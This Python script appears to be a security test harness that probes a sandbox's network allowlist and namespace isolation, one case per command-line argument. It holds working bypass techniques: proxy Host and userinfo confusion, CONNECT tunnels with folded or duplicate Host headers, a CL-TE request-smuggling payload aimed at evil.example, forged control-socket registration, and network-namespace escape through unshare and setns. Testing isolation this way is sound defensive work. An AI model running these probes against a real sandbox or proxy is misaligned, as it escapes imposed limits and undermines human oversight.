# Probes of the network daemon and the allowlist's namespace from inside a
# green command. Operator's list: 10.233.4.2:80 only (the test host also
# listens on 8080 and 443). python3 tools/net.py CASE
import os, sys, socket, glob, json, re, time

gh = os.environ.get("GATESH_HOME") or os.path.expanduser("~/.gatesh")
case = sys.argv[1]
TH = "10.233.4.2"


def out(*x):
    print("[net]", case, *x, flush=True)


def proxy():
    m = re.match(r"http://([^:]+):([^@]+)@([^:]+):(\d+)", os.environ.get("HTTP_PROXY", ""))
    return m.group(1), m.group(2), m.group(3), int(m.group(4))


def raw(host, port, data, t=3):
    s = socket.create_connection((host, port), timeout=t)
    s.sendall(data)
    r = b""
    try:
        while len(r) < 2000:
            c = s.recv(2000)
            if not c:
                break
            r += c
    except Exception:
        pass
    s.close()
    return r[:200]


def via_proxy(first):
    u, pw, h, p = proxy()
    import base64
    auth = base64.b64encode(("%s:%s" % (u, pw)).encode()).decode()
    return raw(h, p, first.replace(b"AUTH", auth.encode()))


def connect_then(target, inner):
    u, pw, h, p = proxy()
    import base64
    auth = base64.b64encode(("%s:%s" % (u, pw)).encode()).decode()
    s = socket.create_connection((h, p), timeout=3)
    s.sendall(b"CONNECT " + target + b" HTTP/1.1\r\nHost: " + target + b"\r\nProxy-Authorization: Basic " + auth.encode() + b"\r\n\r\n")
    r = s.recv(1000)
    out("connect answer", r[:80])
    if b" 200" not in r.split(b"\r\n")[0]:
        return r[:120]
    s.sendall(inner)
    time.sleep(0.5)
    try:
        r2 = s.recv(2000)
    except Exception as e:
        r2 = repr(e).encode()
    return r2[:200]


try:
    if case == "direct80":
        out(raw(TH, 80, b"GET /direct80 HTTP/1.0\r\n\r\n"))
    elif case == "direct8080":
        out(raw(TH, 8080, b"GET /direct8080 HTTP/1.0\r\n\r\n"))
    elif case == "udp":
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        out(s.sendto(b"udp-from-green", (TH, 9999)))
    elif case == "proxy-get80":
        out(via_proxy(b"GET http://10.233.4.2/proxy-get80 HTTP/1.1\r\nHost: 10.233.4.2\r\nProxy-Authorization: Basic AUTH\r\n\r\n"))
    elif case == "proxy-get8080":
        out(via_proxy(b"GET http://10.233.4.2:8080/proxy-get8080 HTTP/1.1\r\nHost: 10.233.4.2:8080\r\nProxy-Authorization: Basic AUTH\r\n\r\n"))
    elif case == "proxy-get-hostmix":
        out(via_proxy(b"GET http://10.233.4.2:8080/hostmix HTTP/1.1\r\nHost: 10.233.4.2:80\r\nProxy-Authorization: Basic AUTH\r\n\r\n"))
    elif case == "proxy-get-userinfo":
        out(via_proxy(b"GET http://10.233.4.2:80@10.233.4.2:8080/userinfo HTTP/1.1\r\nHost: 10.233.4.2\r\nProxy-Authorization: Basic AUTH\r\n\r\n"))
    elif case.startswith("connect:"):
        t = case.split(":", 1)[1].encode()
        out(connect_then(t, b"GET /tunnel-" + t.replace(b":", b"_") + b" HTTP/1.1\r\nHost: " + t + b"\r\n\r\n"))
    elif case == "connect-absolute-inner":
        out(connect_then(b"10.233.4.2:80", b"GET http://10.233.4.2:8080/abs-inner HTTP/1.1\r\nHost: 10.233.4.2:80\r\n\r\n"))
    elif case == "connect-tab-host":
        out(connect_then(b"10.233.4.2:80", b"GET /tabhost HTTP/1.1\r\nHost:\t10.233.4.2:8080\r\n\r\n"))
    elif case == "connect-two-hosts":
        out(connect_then(b"10.233.4.2:80", b"GET /twohosts HTTP/1.1\r\nHost: 10.233.4.2\r\nHost: evil.example\r\n\r\n"))
    elif case == "connect-chunked-smuggle":
        body = b"0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: evil.example\r\n\r\n"
        out(connect_then(b"10.233.4.2:80", b"POST /cl-te HTTP/1.1\r\nHost: 10.233.4.2\r\nContent-Length: " + str(len(body)).encode() + b"\r\nTransfer-Encoding: chunked\r\n\r\n" + body))
    elif case == "connect-obs-fold":
        out(connect_then(b"10.233.4.2:80", b"GET /fold HTTP/1.1\r\nX-A: a\r\n Host: evil.example\r\nHost: 10.233.4.2\r\n\r\n"))
    elif case == "ctl-socket":
        socks = glob.glob(os.path.join(gh, "net", "*", "*.sock"))
        out("sockets", socks)
        for sp in socks:
            try:
                s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                s.settimeout(3)
                s.connect(sp)
                s.sendall(b'{"op":"register","token":"x","session":"other"}\n')
                out(sp, s.recv(500)[:200])
            except Exception as e:
                out(sp, "ERR", e)
    elif case == "abstract":
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect("\0rt-abstract-host")
        s.sendall(b"from-green")
        out("connected to the host's abstract socket")
    elif case == "ifaces":
        out(open("/proc/net/dev").read().replace("\n", " | ")[:400])
        out(open("/proc/net/route").read()[:300])
    elif case == "userns":
        out(open("/proc/self/uid_map").read().strip(), open("/proc/self/status").read().split("CapEff:")[1].split()[0])
    elif case == "unshare-net":
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        r = libc.unshare(0x40000000)  # CLONE_NEWNET
        out("unshare(CLONE_NEWNET)", r, ctypes.get_errno())
    elif case == "setns-named":
        # a named network namespace file (ip netns add; docker keeps its own
        # in /var/run/docker/netns): no /proc access needed to open it
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        for f in glob.glob("/run/netns/*") + glob.glob("/var/run/docker/netns/*"):
            try:
                fd = os.open(f, os.O_RDONLY)
                r = libc.setns(fd, 0x40000000)
                out(f, "setns", r, ctypes.get_errno())
                if r == 0:
                    out("after setns 10.233.4.2:8080", raw(TH, 8080, b"GET /after-setns-named HTTP/1.0\r\n\r\n"))
                    out("after setns 10.233.4.1:18081 (the machine)", raw("10.233.4.1", 18081, b"GET /machine-svc HTTP/1.0\r\n\r\n"))
                    break
            except Exception as e:
                out(f, "ERR", e)
    elif case == "setns-holder":
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        got = []
        for p in os.listdir("/proc"):
            if p.isdigit():
                try:
                    fd = os.open("/proc/%s/ns/net" % p, os.O_RDONLY)
                    mine = os.readlink("/proc/self/ns/net")
                    theirs = os.readlink("/proc/%s/ns/net" % p)
                    if theirs != mine:
                        r = libc.setns(fd, 0x40000000)
                        got.append((p, theirs, r, ctypes.get_errno()))
                        if r == 0:
                            break
                except Exception as e:
                    pass
        out(got[:6])
        try:
            out("after setns", raw(TH, 8080, b"GET /after-setns HTTP/1.0\r\n\r\n"))
        except Exception as e:
            out("after setns ERR", e)
except Exception as e:
    out("ERR", type(e).__name__, e)
